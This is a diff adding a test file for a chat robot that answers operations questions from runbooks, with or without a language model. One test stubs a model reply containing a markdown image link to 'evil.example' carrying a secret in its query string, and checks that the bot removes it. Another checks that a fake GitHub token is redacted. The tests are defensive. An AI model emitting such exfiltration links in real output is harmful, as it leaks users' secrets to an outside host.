@@ -1,0 +1,209 @@
+/** Asking in a room: real robot, dispatch, files, memory and model client; the model's server is ours. */
+
+import { fileURLToPath } from 'node:url';
+import { expect } from 'chai';
+import { createOpenAiModel } from '../../src/adapters/ai/openai/client.ts';
+import { createKnowledgeFiles } from '../../src/adapters/knowledge/files.ts';
+import { createAccess } from '../../src/bot/access.ts';
+import { createDispatch } from '../../src/bot/dispatch.ts';
+import type { Services } from '../../src/bot/services.ts';
+import { createKnowledge } from '../../src/domain/ask/ask.ts';
+import { redact } from '../../src/domain/privacy/redact.ts';
+import { createAskStore } from '../../src/storage/ask.ts';
+import { createAuditStore } from '../../src/storage/audit.ts';
+import type { Database } from '../../src/storage/database.ts';
+import { createProposalStore } from '../../src/storage/proposals.ts';
+import { quiet, testDatabase } from '../support/database.ts';
+import { type ModelServer, modelServer, refuses, type Reply, says } from '../support/openai.ts';
+import { Helper, type Room } from '../support/room.ts';
+
+const here = (path: string): string => fileURLToPath(new URL(`../../${path}`, import.meta.url));
+const QUESTION = 'what do I do when KubePodCrashLooping fires?';
+
+describe('scripts/ask-ai.ts', function () {
+  this.timeout(30_000);
+  let db: Database;
+  let server: ModelServer;
+  let room: Room;
+
+  before(async () => {
+    db = await testDatabase();
+  });
+  after(() => db.close());
+  beforeEach(async () => {
+    server = await modelServer();
+    await db.pool.query('truncate ask_turns');
+  });
+  afterEach(async () => {
+    await room.destroy();
+    await server.finish();
+  });
+
+  /** A room with a robot; with prepared answers it has a model, else none. */
+  async function open(...replies: Reply[]): Promise<void> {
+    server.prepare(...replies);
+    const now = (): Date => new Date('2026-11-20T08:00:00Z');
+    const knowledge = createKnowledge({
+      source: createKnowledgeFiles({
+        folder: here('runbooks'),
+        contextFile: here('config/context.md'),
+        baseUrl: 'https://shipmate.example',
+        log: quiet,
+      }),
+      memory: createAskStore(db, { retentionMs: 86_400_000 }),
+      model:
+        replies.length > 0 ? createOpenAiModel({ apiKey: 'sk-x', baseUrl: server.url, model: 'small' }) : undefined,
+      redact,
+      now,
+      log: quiet,
+    });
+    room = await new Helper(here('scripts/ask-ai.ts')).createRoom({
+      name: 'ops',
+      prepare(robot, chat) {
+        const dispatch = createDispatch({
+          table: robot.table,
+          names: { services: () => [], environments: () => [], people: async () => [], rooms: async () => [] },
+          services: () => ({ knowledge }) as Services,
+          access: createAccess({
+            policy: { roles: {}, everyone: [], people: {} },
+            store: { all: async () => [], add: async () => true, remove: async () => true },
+            changed: async () => undefined,
+            now,
+          }),
+          audit: createAuditStore(db, 'here'),
+          proposals: createProposalStore(db, () => 'code'),
+          rate: { perMinute: 1000, take: async () => 0 },
+          metrics: { finished: () => undefined },
+          log: quiet,
+          post: async () => undefined,
+          redact,
+          now,
+          newReference: () => 'reference',
+          isStorageTrouble: () => false,
+        });
+        robot.pipeline = {
+          async dispatch(message, text) {
+            const line = {
+              text,
+              person: { id: message.user.id, chat: 'test', name: message.user.name },
+              room: { chat: 'test', room: 'ops', private: false },
+              via: 'typed' as const,
+              async reply(content: Parameters<typeof chat.deliver>[0]['content']) {
+                await chat.deliver({ nonce: 'n', address: { chat: 'test', room: 'ops' }, content });
+              },
+            };
+            const outcome = await dispatch.run(line);
+            if (outcome.kind === 'not a command') await dispatch.answer(line, outcome);
+            return 'handled';
+          },
+        };
+      },
+    });
+  }
+
+  const last = (): string => room.messages.at(-1)?.[1] ?? '';
+
+  describe('without a model', () => {
+    it('answers with the passage, says so, and links to file and section', async () => {
+      await open();
+      await room.user.say('alice', `hubot ask ${QUESTION}`);
+      const [shown] = room.cards;
+      expect(shown?.title).to.equal('KubePodCrashLooping');
+      expect(shown?.text).to.contain('kubectl -n <namespace> logs <pod> --previous');
+      expect(shown?.footer).to.match(/^No model is configured: this is the passage/);
+      expect(shown?.fields?.[0]?.value).to.contain(
+        'https://shipmate.example/runbooks/kubernetes/pod-crash-looping.md#first-five-minutes',
+      );
+    });
+
+    it('answers a sentence that is no command', async () => {
+      await open();
+      await room.user.say('alice', 'hubot how do I roll back a failed deploy?');
+      expect(room.cards[0]?.title).to.equal('Deploy failed or made things worse');
+    });
+
+    it('never answers who did not address it', async () => {
+      await open();
+      await room.user.say('alice', QUESTION);
+      expect(room.messages).to.have.length(1);
+    });
+
+    it('says when nothing fits', async () => {
+      await open();
+      await room.user.say('alice', 'hubot ask where is the coffee machine?');
+      expect(room.cards[0]?.title).to.equal('I have no answer to that');
+      expect(last()).to.contain('Nothing in 7 runbooks fits');
+    });
+
+    it('greets who greets', async () => {
+      await open();
+      await room.user.say('alice', 'hubot hello there');
+      expect(room.cards[0]?.title).to.equal('Hello!');
+      await room.user.say('alice', 'hubot thanks!');
+      expect(last()).to.equal('You are welcome.');
+    });
+
+    it('understands a follow-up, until it is told to forget', async () => {
+      await open();
+      await room.user.say('alice', `hubot ask ${QUESTION}`);
+      await room.user.say('alice', 'hubot and then what?');
+      expect(room.cards[1]?.title).to.equal('KubePodCrashLooping');
+      await room.user.say('alice', 'hubot forget');
+      expect(last()).to.contain('Forgotten: 2 questions');
+      await room.user.say('alice', 'hubot forget');
+      expect(last()).to.contain('nothing to forget');
+    });
+  });
+
+  describe('with a model', () => {
+    it('answers in its words, with checked citations', async () => {
+      await open(says('Look at the last log [1][99]. See ![x](http://evil.example/?q=secret) @channel'));
+      await room.user.say('alice', `hubot ask ${QUESTION}`);
+      const [shown] = room.cards;
+      expect(shown?.text).to.contain('[\\[1\\]](https://shipmate.example/runbooks/kubernetes/pod-crash-looping.md');
+      expect(shown?.text).not.to.match(/99|evil|@channel/);
+      expect(shown?.footer).to.contain('Answered by small from the runbooks');
+    });
+
+    it('marks an answer without citations as the model’s own', async () => {
+      await open(says('Turn it off and on again.'));
+      await room.user.say('alice', 'hubot ask how do pancakes work?');
+      expect(room.cards[0]?.title).to.equal('Not from the runbooks');
+      expect(server.seen[0]?.text).to.contain('No passage of the team fits');
+    });
+
+    it('shows the passages when the model fails', async () => {
+      await open(refuses(401, 'invalid_api_key'));
+      await room.user.say('alice', `hubot ask ${QUESTION}`);
+      expect(room.cards[0]?.text).to.match(/^The model does not accept my key\. .+\n\n\*\*First five minutes\*\*/);
+      expect(last()).not.to.contain('invalid_api_key');
+    });
+
+    it('sends no secret, and nothing of other people', async () => {
+      await open(says('ok [1]'), says('ok [1]'));
+      const secret = `ghp_${'a1B2c3D4e5F6'.repeat(3)}`;
+      await room.user.say('bob', 'hubot ask is the disk full of pancakes?');
+      await room.user.say('alice', `hubot ask why is ${secret} refused by KubePodCrashLooping?`);
+      const sent = server.seen[1]?.text ?? '';
+      expect(sent).not.to.contain(secret);
+      expect(sent).to.contain('redacted');
+      expect(sent).not.to.contain('pancakes');
+      expect(sent.length).to.be.lessThan(30_000);
+      const { rows } = await db.pool.query('select question from ask_turns');
+      expect(JSON.stringify(rows)).not.to.contain(secret);
+    });
+
+    it('sends what was said before in the same conversation', async () => {
+      await open(says('First the log [1].'), says('Then the limit [1].'));
+      await room.user.say('alice', `hubot ask ${QUESTION}`);
+      await room.user.say('alice', 'hubot and then?');
+      expect(server.seen[1]?.body.messages.map(({ role }) => role)).to.deep.equal([
+        'system',
+        'user',
+        'assistant',
+        'user',
+      ]);
+      expect(server.seen[1]?.text).to.contain('First the log');
+    });
+  });
+});
